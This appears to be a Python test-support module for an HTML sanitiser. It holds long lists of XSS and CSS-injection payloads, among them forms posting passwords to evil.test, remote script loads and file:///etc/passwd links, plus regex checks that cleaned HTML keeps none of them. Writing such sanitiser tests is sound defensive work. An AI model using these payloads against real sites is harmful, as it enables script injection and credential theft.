"""HTML and CSS of attackers, and a check that cleaned HTML contains none of it."""

import re
from collections.abc import Sequence
from typing import Any

from selectolax.lexbor import LexborHTMLParser

from landingpad.blockhtml.allowed import PAGE
from landingpad.blockhtml.clean import FRAMES

HTML = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    '<img/src="x"/onerror=alert(1)>',
    "<img src=javascript:alert(1)>",
    "<img srcset='javascript:alert(1) 1x'>",
    "<img src=1 href=1 onerror='javascript:alert(1)'></img>",
    "<body onload=alert(1)>",
    "<body background=javascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><rect width=9 height=9 /></a></svg>",
    "<svg><image href='javascript:alert(1)'>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></desc></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='  javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#x6A;avascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='blob:https://x/1'>x</a>",
    "<a href='view-source:javascript:1'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a ping=//evil.test href=/>x</a>",
    "<a style=behaviour:url(x) href=/ onclick=alert(1)>x</a>",
    "<area href=javascript:alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=//evil.test/></iframe>",
    "<iframe src='https://www.youtube.com.evil.test/embed/x'></iframe>",
    "<iframe src='https://www.youtube.com@evil.test/embed/x'></iframe>",
    "<iframe src='//evil.test\\@www.youtube.com/embed/x'></iframe>",
    "<iframe src='data:text/html,x'></iframe>",
    "<iframe><img src=x onerror=alert(1)></iframe><img src=x onerror=alert(1)>",
    "<object data=javascript:alert(1)></object>",
    "<object><param name=code value=x></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta charset=utf-7>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<link rel=import href=//evil.test/>",
    "<style>@import '//evil.test/x.css'; *{x:expression(alert(1))}</style>",
    "<style><img src='</style><img src=x onerror=alert(1)>'></style>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<form action=//evil.test/steal><input name=password></form>",
    "<form action='https://evil.test/'><input name=password></form>",
    "<form action='/\\evil.test/'><input></form>",
    "<form action='/\t/evil.test/'><input></form>",
    "<form id=f></form><button form=f formaction=javascript:alert(1)>x</button>",
    "<input type=image src=x onerror=alert(1) formaction=//evil.test>",
    "<input autofocus onfocus=alert(1)>",
    "<isindex action=javascript:alert(1)>",
    "<video src=x onerror=alert(1)><source src=javascript:alert(1)></video>",
    "<video poster=javascript:alert(1)></video>",
    "<audio src=data:text/html,x controls onplay=alert(1)></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<noembed><p title='</noembed><script>alert(1)</script>'></noembed>",
    "<noframes><p title='</noframes><script>alert(1)</script>'></noframes>",
    "<plaintext><script>alert(1)</script>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[x><script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x xmlns:h='http://www.w3.org/1999/xhtml'><h:script>alert(1)</h:script></x>",
    "<div onmouseover=alert(1)>x</div>",
    "<div\x0conclick=alert(1)>x</div>",
    '<p title="x" / onclick="alert(1)">x</p>',
    "<p bxstyle='background:url(javascript:alert(1))'>x</p>",
    "<p bxstyle=x onclick=alert(1) style='width:expression(alert(1))'>x</p>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<table background=javascript:alert(1)><tr><td background=javascript:alert(1)>x</table>",
    "<blockquote cite=javascript:alert(1)>x</blockquote>",
    "<div data-url='javascript:alert(1)' data-pseudo-url='{\"href\":\"javascript:alert(1)\"}'>x</div>",
    "<select><style></select><img src=x onerror=alert(1)></style></select>",
    "<portal src=javascript:alert(1)></portal>",
    "<x onclick=alert(1) contenteditable tabindex=1 onfocus=alert(1) id=x>x</x>",
    "<keygen autofocus onfocus=alert(1)>",
    "<menu><menuitem onclick=alert(1)>x</menu>",
    "<custom-element is=x onclick=alert(1)>x</custom-element>",
    "<a\u2028href=javascript:alert(1)>x</a>",
    "<img src=x onerror=alert(1)//",
]

CSS = [
    "background: url(javascript:alert(1))",
    "background: url('java\nscript:alert(1)')",
    'background: url( "JAVASCRIPT:alert(1)" )',
    "background: url(vbscript:x)",
    "background: url(data:text/html,<script>)",
    "background: url(file:///etc/passwd)",
    "background: URL(jav/**/ascript:alert(1))",
    "background: \\75 rl(javascript:alert(1))",
    "background: u\\rl(java\\script:alert(1))",
    "background-image: image-set('javascript:alert(1)' 1x)",
    "width: expression(alert(1))",
    "width: exp/**/ression(alert(1))",
    "width: e\\78 pression(alert(1))",
    "behavior: url(x.htc)",
    "behaviour: url(x.htc)",
    "-moz-binding: url(//evil.test/x.xml#a)",
    "@import '//evil.test/x.css'",
    "color: red; @import url(//evil.test)",
    "color: red} body {background: url(javascript:1)",
    "color: '</style><script>alert(1)</script>'",
    'content: "a\n; background: url(javascript:alert(1))',
    "list-style: url(\x01javascript:alert(1))",
    "color: red; ;;background:url('javascript:alert(1)",
    "/* */ background /* */ : /* */ url(javascript:alert(1))",
    "x: y; width /**/: expression(1)",
]

_ELEMENTS = {name.lower() for name in PAGE}
_ATTRIBUTES = {
    "attributename", "background", "bxstyle", "formaction", "http-equiv", "is", "ping", "srcdoc", "xlink:href",
}  # fmt: skip
_ADDRESSES = {"action", "cite", "href", "poster", "src"}
_SCHEME = r"(?:(?:java|vb|live)script|view-source|file|blob|data(?!:image/)):"
_HOSTILE_ADDRESS = re.compile(_SCHEME, re.IGNORECASE)
_HOSTILE_PART = re.compile(rf'(?:^|[:,\[]"){_SCHEME}', re.IGNORECASE)
_HOSTILE_STYLE = re.compile(
    r"javascript:|vbscript:|url\([\"']?file:|data:(?!image/)|expression\(|@import|behaviou?r|-moz-binding|[<{}\\]",
    re.IGNORECASE,
)


def assert_harmless(html: str) -> None:
    """Check the HTML as browsers parse it, alone and in a page, and again after a round trip through the serialiser."""
    _check(LexborHTMLParser(html, is_fragment=True), html, set())
    for scripting in (False, True):
        tree = LexborHTMLParser(f"<!doctype html>{html}", scripting=scripting)
        _check(tree, html, {"html", "head", "body"})
        _check(LexborHTMLParser(tree.html or "", scripting=scripting), html, {"html", "head", "body"})


def _check(tree: LexborHTMLParser, html: str, around: set[str]) -> None:
    for node in tree.css("*"):
        tag = (node.tag or "").lower()
        assert tag in _ELEMENTS | around, f"<{tag}> is left in {html!r}"
        for name, value in node.attributes.items():
            _check_attribute(tag, name, value or "", html)


def _check_attribute(tag: str, name: str, value: str, html: str) -> None:
    where = f"{name}={value!r} is left in {html!r}"
    assert not name.startswith("on"), where
    assert name not in _ATTRIBUTES, where
    plain = re.sub(r"[\x00-\x20]", "", value)
    if name in _ADDRESSES:
        assert not _HOSTILE_ADDRESS.match(plain), where
    if name == "srcset" or name.startswith("data-"):
        assert not _HOSTILE_PART.search(plain), where
    if name == "style":
        assert not _HOSTILE_STYLE.search(re.sub(r"/\*.*?\*/", "", plain)), where
    if name == "action":
        assert not re.match(r"(?!mailto:)[a-z]+:|[/\\]{2}", plain, re.IGNORECASE), where
    if tag == "iframe" and name == "src":
        assert re.sub(r"^(https?:)?//", "", value).startswith(FRAMES), where


KINDS = {
    ".t": "text", ".a": "link", ".i": "img", ".bg": "styleimg", ".ic": "icon", ".f": "embed", ".m": "map", ".ct": "text"
}  # fmt: skip
CONTENT = (
    '<section class="w"><h2 class="t">T</h2><a class="a" href="/">A</a><img class="i" src="/a.png" alt="">'
    '<div class="bg"></div><i class="ic"></i><iframe class="f" src="https://www.youtube.com/embed/x"></iframe>'
    '<div class="m"></div><div class="c"><p class="ct">C</p></div></section>'
)


def manifest(attributes: Sequence[str]) -> dict[str, Any]:
    """Return the manifest of the block that holds all kinds of nodes, with everything editable."""
    return {
        "block": {"name": "Everything", "section": ["text"]},
        "nodes": {selector: {"name": selector, "type": kind} for selector, kind in KINDS.items()},
        "cards": {".c": {"name": "Card", "label": [".ct"]}},
        "style": {
            "block": {"additional": {"attrs": [{"attribute": name, "type": "text"} for name in attributes]}},
            "nodes": {selector: {"type": ["typo"]} for selector in KINDS},
        },
        "attrs": {selector: [{"attribute": name, "type": "text"} for name in attributes] for selector in KINDS},
    }
